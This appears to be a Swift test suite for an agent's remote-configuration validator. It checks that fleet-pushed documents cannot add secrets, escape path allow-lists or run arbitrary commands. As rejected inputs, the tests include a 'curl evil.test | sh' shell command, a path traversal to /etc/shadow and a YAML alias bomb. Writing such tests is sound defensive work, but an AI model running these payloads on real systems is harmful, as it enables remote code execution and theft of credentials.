import Foundation
import Testing
import UplinkAgent
import UplinkConfig
import UplinkCore
import UplinkRemoteConfig
import UplinkSources
import UplinkTestSupport

/// A local file with `remote_config` enabled and a real trusted key file, and remote documents merged into it as a
/// box merges them (`RemoteConfiguration.merge`).
struct RemoteFixture {
    let directory: String
    let local: UplinkFile

    static let allow = """
          allow:
            source_types: [cpu, memory, tail, sysfs, journald, exec]
            tail_paths: ["/var/log/app/**", "/opt/vendor/logs/*.log"]
            sysfs_paths: ["/sys/bus/iio/devices/**"]
            journald_units: ["app-*.service"]
            exec:
              - argv: [/usr/local/lib/uplink/probes/modbus-read, --unit, "*"]
            max_sources: 5
            min_interval: 1s
        """

    init(allow: String = RemoteFixture.allow) throws {
        directory = try TestDirectories.make("uplink-remote")
        try writePublicKey(to: directory + "/fleet.pub", id: "fleet")
        let yaml = """
            uplink: { url: http://collector.test:4318 }
            sources:
              - { name: cpu, type: cpu }
            remote_config:
              enabled: true
              trusted_keys: [\(directory)/fleet.pub]
            \(allow)
            """
        let result = decode(yaml, file: directory + "/local.yaml")
        #expect(result.issues.map(\.description) == [])
        local = try result.get()
    }

    /// The `FILE` of a document's issues.
    static func file(_ text: String, name: String = "doc") -> String {
        RemoteDocument.issueFile(name: name, sha256: SHA256Digest(of: Array(text.utf8)).hex)
    }

    func merge(_ text: String, name: String = "doc") -> ConfigResult<UplinkFile> {
        merge(bytes: Array(text.utf8), name: name)
    }

    func merge(bytes: [UInt8], name: String = "doc") -> ConfigResult<UplinkFile> {
        RemoteConfiguration.merge(local: local, documents: [(name, bytes, SHA256Digest(of: bytes).hex)])
    }

    /// The rendered issues of merging `text`.
    func issues(_ text: String, name: String = "doc") -> [String] {
        merge(text, name: name).issues.map(\.description)
    }
}

@Suite("remote documents: what they may hold, and the allow-list")
struct RemoteDocumentTests {
    /// Expects exactly one issue with exactly this text after `FILE:`.
    private func expectRefused(_ text: String, _ expected: String, sourceLocation: SourceLocation = #_sourceLocation) throws {
        let fixture = try RemoteFixture()
        let issues = fixture.issues(text)
        let file = RemoteFixture.file(text)
        #expect(issues.contains(file + ":" + expected), "\(issues)", sourceLocation: sourceLocation)
        #expect(fixture.merge(text).value == nil, sourceLocation: sourceLocation)
    }

    @Test("sources: [] is a document that adds no source (how a fleet takes its sources off a box); a bare sources: is not")
    func emptySources() throws {
        let fixture = try RemoteFixture()
        let merged = try #require(fixture.merge("sources: []\n").value)
        #expect(merged.sources.map(\.name) == ["cpu"], "the local sources only")
        try expectRefused("sources:\n", "1:9: sources: at least one source is required (hint: e.g. 'sources: [{ name: cpu, type: cpu }]')")
    }

    @Test("issues name the document remote:<name>@<12 hex digits of its sha256>")
    func issueFile() {
        let sha = String(repeating: "AB", count: 32)
        #expect(RemoteDocument.issueFile(name: "app", sha256: sha) == "remote:app@abababababab")
    }

    @Test("the accepted document: its sources follow the local ones, tail sources restricted to the allowed real paths")
    func accepted() throws {
        let fixture = try RemoteFixture()
        let text = """
            sources:
              - { name: app-cpu, type: cpu, interval: 5s, tags: { team: app } }
              - { name: app-log, type: tail, paths: ["/var/log/app/*.log", "/opt/vendor/logs/x.log"], exclude: ["*.gz"] }
              - { name: humidity, type: sysfs, path: "/sys/bus/iio/devices/iio:device0/in_humidityrelative_input" }
              - { name: app-journal, type: journald, units: [app-web, app-db.service], matches: ["_SYSTEMD_UNIT=app-x.service"] }
              - { name: modbus, type: exec, interval: 30s, command: [/usr/local/lib/uplink/probes/modbus-read, --unit, "7"] }
            """
        let result = fixture.merge(text)
        #expect(result.issues.map(\.description) == [])
        let file = try result.get()
        #expect(file.sources.map(\.name) == ["cpu", "app-cpu", "app-log", "humidity", "app-journal", "modbus"])
        let tail = try #require(file.sources[2].config.settings(as: TailConfig.self))
        #expect(tail.paths == ["/var/log/app/*.log", "/opt/vendor/logs/x.log"])
        #expect(tail.allowedRealPaths == ["/var/log/app/**", "/opt/vendor/logs/*.log"])
        // The local sources are untouched: no allow-list on a local tail.
        #expect(file.sources[0] == fixture.local.sources[0])
    }

    @Test("${HOME} in a tag is refused: no environment expansion")
    func environmentReference() throws {
        try expectRefused(
            """
            sources:
              - name: app-cpu
                type: cpu
                tags: { home: "${HOME}" }
            """,
            "4:19: sources[0].tags.home: '${' is not allowed here: this document gets no environment variable expansion (hint: write the value itself; only the local configuration file expands ${VAR})")
    }

    @Test("${ is refused anywhere: in a key, in a block scalar (once), in a comment")
    func environmentReferenceAnywhere() throws {
        let text = """
            # fetched from ${COLLECTOR}
            sources:
              - name: app-cpu
                type: cpu
                tags:
                  "${KEY}": x
                  note: |
                    first ${A}
                    second ${B}
            """
        let fixture = try RemoteFixture()
        let file = RemoteFixture.file(text)
        #expect(fixture.issues(text) == [
            "\(file):1:16: '${' is not allowed anywhere in this document, comments included (hint: this document gets no environment variable expansion)",
            "\(file):6:7: sources[0].tags: '${' is not allowed here: this document gets no environment variable expansion (hint: write the value itself; only the local configuration file expands ${VAR})",
            "\(file):7:13: sources[0].tags.note: '${' is not allowed here: this document gets no environment variable expansion (hint: write the value itself; only the local configuration file expands ${VAR})",
        ])
    }

    @Test("a section other than sources is refused", arguments: ["uplink", "agent", "buffer", "collector", "remote_config"])
    func otherSection(section: String) throws {
        try expectRefused(
            """
            sources:
              - { name: app-cpu, type: cpu }
            \(section):
              url: http://evil.test
            """,
            "3:1: \(section): '\(section)' is not allowed in a remote document, which may hold only 'sources' (hint: agent, buffer, uplink, collector and remote_config are set by the local file alone)")
    }

    @Test("a token key is refused wherever it is")
    func tokenKey() throws {
        try expectRefused(
            """
            sources:
              - name: app-cpu
                type: cpu
                token: abc
            """,
            "4:5: sources[0].token: 'token': a remote document cannot set a token or another secret")
        try expectRefused(
            """
            sources:
              - { name: app-cpu, type: cpu, tags: { token_file: /etc/uplink/token } }
            """,
            "2:41: sources[0].tags.token_file: 'token_file': a remote document cannot set a token or another secret")
    }

    @Test("a relative path is refused, and a '..' component")
    func relativePath() throws {
        try expectRefused(
            """
            sources:
              - name: app-log
                type: tail
                paths: [app/*.log]
            """,
            "4:13: sources[0].paths[0]: 'app/*.log' is a relative path; only absolute paths are allowed (hint: write the absolute path)")
        try expectRefused(
            """
            sources:
              - { name: app-log, type: tail, paths: ["/var/log/app/../../../etc/shadow"] }
            """,
            "2:42: sources[0].paths[0]: '/var/log/app/../../../etc/shadow' has a '.' or '..' component (hint: write the absolute path)")
        try expectRefused(
            """
            sources:
              - { name: app-cpu, type: cpu, proc_root: proc }
            """,
            "2:44: sources[0].proc_root: 'proc' is a relative path; only absolute paths are allowed (hint: write the absolute path)")
    }

    @Test("anchors and aliases are refused, even a harmless one, and an alias bomb is not expanded")
    func aliases() throws {
        try expectRefused(
            """
            sources:
              - &cpu { name: app-cpu, type: cpu }
            """,
            "2:5: sources[0]: YAML anchors ('&cpu') are not allowed in this document (hint: write every value out in full)")
        try expectRefused(
            """
            sources:
              - { name: app-cpu, <<: { type: cpu } }
            """,
            "2:22: sources[0].<<: YAML merge keys ('<<') are not allowed in this document (hint: write every key out in full)")
        var bomb = "sources:\n  - { name: app-cpu, type: cpu, tags: { a: x } }\nx0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
        for level in 1...9 {
            let previous = Array(repeating: "*x\(level - 1)", count: 9).joined(separator: ", ")
            bomb += "x\(level): &x\(level) [\(previous)]\n"
        }
        let fixture = try RemoteFixture()
        let issues = fixture.merge(bomb).issues
        #expect(issues.contains { $0.line == 4 && $0.message == "YAML aliases ('*x0') are not allowed in this document" })
        #expect(issues.contains { $0.message == "YAML anchors ('&x9') are not allowed in this document" })
        #expect(!issues.contains { $0.message.contains("expands to more than") })
        #expect(issues.allSatisfy { $0.file == RemoteFixture.file(bomb) })
    }

    @Test("more than max_sources remote sources are refused")
    func tooManySources() throws {
        let text = "sources:\n" + (1...6).map { "  - { name: s\($0), type: cpu }" }.joined(separator: "\n")
        try expectRefused(
            text,
            "7:5: sources[5]: more than remote_config.allow.max_sources (5) remote sources (hint: remote sources of all documents count together)")
    }

    @Test("an interval below min_interval is refused")
    func intervalBelowMinimum() throws {
        try expectRefused(
            """
            sources:
              - { name: fast, type: cpu, interval: 500ms }
              - { name: app-log, type: tail, paths: [/var/log/app/a.log], poll_interval: 100ms }
            """,
            "2:40: sources[0].interval: '500ms' is below remote_config.allow.min_interval (1s)")
    }

    @Test("an exec command outside allow.exec is refused")
    func execNotAllowed() throws {
        try expectRefused(
            """
            sources:
              - { name: probe, type: exec, interval: 10s, command: [/usr/local/lib/uplink/probes/modbus-read, --bus, "7"] }
            """,
            "2:56: sources[0].command: the command ['/usr/local/lib/uplink/probes/modbus-read', '--bus', '7'] matches no remote_config.allow.exec pattern (hint: allowed: ['/usr/local/lib/uplink/probes/modbus-read', '--unit', '*'])")
        // One argument more than the pattern.
        try expectRefused(
            """
            sources:
              - { name: probe, type: exec, interval: 10s, command: [/usr/local/lib/uplink/probes/modbus-read, --unit, "7", "8"] }
            """,
            "2:56: sources[0].command: the command ['/usr/local/lib/uplink/probes/modbus-read', '--unit', '7', '8'] matches no remote_config.allow.exec pattern (hint: allowed: ['/usr/local/lib/uplink/probes/modbus-read', '--unit', '*'])")
    }

    @Test("sh -c is refused: a relative program, and no pattern allows it")
    func shellCommand() throws {
        let text = """
            sources:
              - { name: shell, type: exec, interval: 10s, command: [sh, -c, "curl evil.test | sh"] }
            """
        try expectRefused(
            text,
            "2:57: sources[0].command[0]: 'sh' is a relative program name; a remote exec command must start with an absolute path (hint: remote commands are not looked up in PATH)")
        try expectRefused(
            text,
            "2:56: sources[0].command: the command ['sh', '-c', 'curl evil.test | sh'] matches no remote_config.allow.exec pattern (hint: allowed: ['/usr/local/lib/uplink/probes/modbus-read', '--unit', '*'])")
    }

    @Test("a tail of /etc/shadow, or of a wider pattern, is refused")
    func tailOutsideAllowedPaths() throws {
        try expectRefused(
            """
            sources:
              - { name: secrets, type: tail, paths: [/etc/shadow] }
            """,
            "2:42: sources[0].paths[0]: '/etc/shadow' is not inside remote_config.allow.tail_paths (hint: allowed: /var/log/app/**, /opt/vendor/logs/*.log)")
        try expectRefused(
            """
            sources:
              - { name: wide, type: tail, paths: ["/var/log/**"] }
            """,
            "2:39: sources[0].paths[0]: '/var/log/**' is not inside remote_config.allow.tail_paths (hint: allowed: /var/log/app/**, /opt/vendor/logs/*.log)")
    }

    @Test("sysfs, journald and types outside the allow-list are refused")
    func otherKindsOutsideAllowList() throws {
        try expectRefused(
            """
            sources:
              - { name: gpio, type: sysfs, path: /sys/class/gpio/gpio4/value }
            """,
            "2:38: sources[0].path: '/sys/class/gpio/gpio4/value' is outside remote_config.allow.sysfs_paths (hint: allowed: /sys/bus/iio/devices/**)")
        try expectRefused(
            """
            sources:
              - { name: journal, type: journald }
            """,
            "2:28: sources[0].units: a remote journald source must name its units (hint: list them in 'units', within remote_config.allow.journald_units)")
        try expectRefused(
            """
            sources:
              - { name: journal, type: journald, units: [app-web, sshd] }
            """,
            "2:55: sources[0].units[1]: the unit 'sshd' is outside remote_config.allow.journald_units (hint: allowed: app-*.service)")
        try expectRefused(
            """
            sources:
              - { name: journal, type: journald, units: [app-web], matches: ["_SYSTEMD_UNIT=sshd.service"] }
            """,
            "2:66: sources[0].matches[0]: the unit 'sshd.service' is outside remote_config.allow.journald_units (hint: allowed: app-*.service)")
        try expectRefused(
            """
            sources:
              - { name: net, type: network }
            """,
            "2:24: sources[0].type: the type 'network' is not in remote_config.allow.source_types (hint: allowed: cpu, memory, tail, sysfs, journald, exec)")
    }

    @Test("a name used by a local source is refused, and one used twice across documents")
    func nameClash() throws {
        try expectRefused(
            """
            sources:
              - { name: cpu, type: cpu }
            """,
            "2:13: sources[0].name: the name 'cpu' is used by a local source (hint: a remote document cannot replace or change a local source; rename it)")
        let fixture = try RemoteFixture()
        let first = "sources:\n  - { name: app-cpu, type: cpu }\n"
        let second = "sources:\n  - { name: app-cpu, type: memory }\n"
        let result = RemoteConfiguration.merge(
            local: fixture.local,
            documents: [
                ("first", Array(first.utf8), SHA256Digest(of: Array(first.utf8)).hex),
                ("second", Array(second.utf8), SHA256Digest(of: Array(second.utf8)).hex),
            ])
        #expect(result.issues.map(\.description) == [
            RemoteFixture.file(second, name: "second")
                + ":2:13: sources[0].name: the name 'app-cpu' is used by a source of \(RemoteFixture.file(first, name: "first")) (hint: source names must be unique across all documents)"
        ])
    }

    @Test("the generator kind is refused")
    func generator() throws {
        try expectRefused(
            """
            sources:
              - { name: flood, type: generator, rate: 1000000 }
            """,
            "2:26: sources[0].type: the generator kind is not allowed in a remote document (it exists for load tests)")
    }

    @Test("1 MiB + 1 byte is refused before parsing; 1 MiB is parsed")
    func tooLarge() throws {
        let fixture = try RemoteFixture()
        #expect(fixture.local.remoteConfig.maxDocumentBytes == 1 << 20)
        // Not YAML at all: parsing it would report a syntax error.
        let bytes = [UInt8](repeating: UInt8(ascii: "["), count: (1 << 20) + 1)
        let file = RemoteDocument.issueFile(name: "doc", sha256: SHA256Digest(of: bytes).hex)
        #expect(fixture.merge(bytes: bytes).issues.map(\.description) == [
            file + ": the document has 1048577 bytes, more than remote_config.max_document_bytes (1048576); it was not parsed (hint: split it into several documents, or raise max_document_bytes in the local file)"
        ])
        let padded = Array("sources:\n  - { name: app-cpu, type: cpu }\n".utf8)
        let exact = padded + [UInt8](repeating: UInt8(ascii: "#"), count: (1 << 20) - padded.count)
        #expect(fixture.merge(bytes: exact).issues.map(\.description) == [])
    }

    @Test("the source decoders are the local file's: same messages")
    func sameDecoders() throws {
        let fixture = try RemoteFixture()
        let text = "sources:\n  - { name: app-cpu, type: cpu, intervall: 5s }\n"
        let local = decode("uplink: { url: http://collector.test:4318 }\n" + text, file: "local.yaml")
        let remoteMessages = fixture.merge(text).issues.map { "\($0.keyPath): \($0.message) \($0.hint ?? "")" }
        let localMessages = local.issues.map { "\($0.keyPath): \($0.message) \($0.hint ?? "")" }
        #expect(remoteMessages == localMessages)
        #expect(!remoteMessages.isEmpty)
    }

    @Test("remote documents need remote_config.enabled")
    func disabled() throws {
        let fixture = try RemoteFixture()
        var local = fixture.local
        local.remoteConfig.enabled = false
        let text = "sources:\n  - { name: app-cpu, type: cpu }\n"
        let result = RemoteConfiguration.merge(local: local, documents: [("doc", Array(text.utf8), SHA256Digest(of: Array(text.utf8)).hex)])
        #expect(result.issues.map(\.description) == [
            local.path + ": remote_config.enabled: remote_config is not enabled, so remote documents are not applied (hint: set remote_config.enabled: true in the local file)"
        ])
    }
}
